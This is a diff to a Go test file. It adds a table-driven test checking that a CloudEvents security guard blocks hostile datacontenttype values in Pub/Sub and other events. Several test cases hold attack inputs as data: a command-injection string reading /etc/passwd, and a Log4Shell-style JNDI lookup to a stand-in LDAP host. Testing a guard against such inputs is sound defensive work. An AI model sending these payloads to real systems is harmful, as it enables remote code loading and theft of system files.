@@ -5,6 +5,7 @@ import (
 	"encoding/base64"
 	"encoding/json"
 	"errors"
+	"strconv"
 	"strings"
 	"sync/atomic"
 	"testing"
@@ -357,5 +358,36 @@ func TestCloudEventStructuredRoundTrip(t *testing.T) {
 	err := guardgcf.CloudEvent(g, func(context.Context, event.Event) error { return nil })(t.Context(), e)
 	if !errors.Is(err, guard.ErrBlocked) || !findingAt(logs, "records[0].body.sku") {
 		t.Fatalf("err %v; logs %v", err, logs.All())
+	}
+}
+
+// TestCloudEventDataContentType: the sender writes datacontenttype; a value
+// that is no media type is judged as a string, whether the engine reads it
+// as the body's media type (a Storage object) or the data is decoded as
+// what the event type says (a Pub/Sub envelope).
+func TestCloudEventDataContentType(t *testing.T) {
+	for _, c := range []struct {
+		name, typ, source, ct, data string
+		blocked                     bool
+	}{
+		{"Pub/Sub, a media type", guardgcf.TypePubSub, topicSource, "application/json; charset=utf-8", string(pubsubData(`{"a":1}`, nil)), false},
+		{"Pub/Sub, a command", guardgcf.TypePubSub, topicSource, ";{cat,/etc/passwd}", string(pubsubData(`{"a":1}`, nil)), true},
+		{"Pub/Sub, a lookup in a parameter", guardgcf.TypePubSub, topicSource, "application/json; x=${jndi:ldap://x.example/a}", string(pubsubData(`{"a":1}`, nil)), true},
+		{"other type, a media type", "com.example.order.v1", "//example.com/orders", "application/json", `{"a":1}`, false},
+		{"other type, a command", "com.example.order.v1", "//example.com/orders", ";{cat,/etc/passwd}", `{"a":1}`, true},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			raw := `{"specversion":"1.0","id":"42","type":"` + c.typ + `","source":"` + c.source + `",
+				"datacontenttype":` + strconv.Quote(c.ct) + `,"data":` + c.data + `}`
+			var e event.Event
+			if err := json.Unmarshal([]byte(raw), &e); err != nil {
+				t.Fatal(err)
+			}
+			g, logs := newGuard(t)
+			err := guardgcf.CloudEvent(g, func(context.Context, event.Event) error { return nil })(t.Context(), e)
+			if c.blocked != errors.Is(err, guard.ErrBlocked) {
+				t.Fatalf("blocked = %v, want %v (err %v; logs %v)", errors.Is(err, guard.ErrBlocked), c.blocked, err, logs.All())
+			}
+		})
 	}
 }
